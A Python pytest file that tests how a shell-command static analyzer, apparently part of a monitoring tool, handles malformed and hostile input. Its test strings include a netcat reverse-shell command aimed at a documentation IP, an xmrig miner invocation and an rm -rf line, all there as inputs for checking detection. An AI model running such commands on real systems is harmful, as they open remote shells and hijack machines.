"""Hostile input to the static analyzer: a parse_error and a partial result, never an exception."""

from __future__ import annotations

from pathlib import Path

import pytest

from rollcage.monitor.static import analyze_command, analyze_file

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpora" / "benign-nl2bash.txt"


@pytest.mark.parametrize(
    "text",
    [
        "echo " + "$(" * 5000 + "id" + ")" * 5000,
        "(" * 20000 + "id" + ")" * 20000,
        "{ " * 10000 + "id; " + "} " * 10000,
        'eval "' + 'eval \\"' * 60 + "id" + '\\"' * 60 + '"',
        "echo " + "A" * (1 << 20),
        "`" * 1001,
    ],
)
def test_hostile_gives_parse_error(text: str) -> None:
    a = analyze_command(text)
    assert a.parse_error
    assert "analyzer failure" not in a.parse_error


def test_python_nesting_is_reported_as_script_parse_error() -> None:
    a = analyze_command("python3 -c '" + "(" * 5000 + "'")
    assert "script_parse_error" in a.features and "python3" in a.names


def test_nul_bytes() -> None:
    a = analyze_command("ls\x00 -la; rm -rf /tmp/x\x00")
    assert a.parse_error and "NUL" in a.parse_error
    assert "rm" in a.names


def test_unterminated_quotes_fall_back() -> None:
    a = analyze_command('bash -c "nc -e /bin/sh 203.0.113.5 4444')
    assert a.parse_error
    assert "nc" in a.names
    a = analyze_command("xmrig -o 'pool:3333")
    assert a.parse_error and "xmrig" in a.names


def test_file_hostile() -> None:
    assert analyze_file(b"\x00\xff" * 5000, "/tmp/x.bin").parse_error is None
    assert analyze_file("{" * 100000, "/tmp/c.json").parse_error
    assert analyze_file(Path("/nonexistent/file"), None).kind == "unreadable"


@pytest.mark.skipif(not CORPUS.exists(), reason="shared corpus not present")
def test_benign_corpus_parse_error_rate() -> None:
    lines = [ln for ln in CORPUS.read_text(encoding="utf-8", errors="replace").splitlines() if ln.strip()]
    results = [analyze_command(ln) for ln in lines]
    failures = [r for r in results if r.parse_error and "analyzer failure" in r.parse_error]
    errors = [r for r in results if r.parse_error]
    assert not failures
    assert len(errors) / len(lines) < 0.02
